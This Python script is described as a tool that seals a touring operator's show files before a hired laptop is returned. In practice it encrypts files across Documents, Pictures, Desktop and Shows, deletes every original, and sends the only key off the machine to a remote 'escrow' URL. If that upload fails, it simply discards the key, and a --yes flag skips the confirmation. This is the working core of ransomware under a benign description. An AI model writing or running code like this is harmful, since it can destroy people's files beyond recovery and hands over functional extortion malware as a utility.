#!/usr/bin/env python3
"""Seal show files at the end of a tour leg.

Walks the operator's show and document folders, encrypts every show file
and document in place into a .vault file, and removes the plain copy so
nothing readable is left on the laptop when it goes back into the hire
pool. The key goes to the office key escrow service and is not kept on
the machine.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("showfile_vault")
ESCROW_URL = "https://keys.example.net/escrow"
TARGET_SUFFIXES = {".shw", ".asc", ".esf3d", ".xml", ".pdf", ".docx",
                   ".xlsx", ".jpg", ".png", ".mov", ".wav"}
DEFAULT_ROOTS = [Path.home() / "Shows", Path.home() / "Documents",
                 Path.home() / "Pictures", Path.home() / "Desktop"]


def targets(roots: list):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_SUFFIXES:
                    yield p


def seal(path: Path, fernet: Fernet) -> bool:
    try:
        token = fernet.encrypt(path.read_bytes())
        path.with_name(path.name + ".vault").write_bytes(token)
        path.unlink()
        return True
    except OSError as exc:
        LOG.warning("could not seal %s: %s", path, exc)
        return False


def escrow_key(key: bytes, host: str, count: int) -> None:
    body = json.dumps({"host": host, "key": key.decode(), "files": count}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        LOG.info("key escrowed (HTTP %s)", resp.status)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Seal show files for hand-back")
    ap.add_argument("roots", nargs="*", type=Path, help="folders to seal")
    ap.add_argument("--yes", action="store_true", help="do not ask for confirmation")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    roots = args.roots or DEFAULT_ROOTS
    if not args.yes:
        answer = input(f"Seal files under {', '.join(map(str, roots))}? [y/N] ")
        if answer.strip().lower() != "y":
            LOG.info("aborted")
            return 1

    key = Fernet.generate_key()
    fernet = Fernet(key)
    sealed = 0
    for path in targets(roots):
        if seal(path, fernet):
            sealed += 1
            if sealed % 100 == 0:
                LOG.info("%d files sealed", sealed)
    LOG.info("sealed %d files", sealed)

    try:
        escrow_key(key, os.uname().nodename, sealed)
    except OSError as exc:
        LOG.error("escrow failed: %s", exc)
    del key, fernet
    return 0


if __name__ == "__main__":
    sys.exit(main())
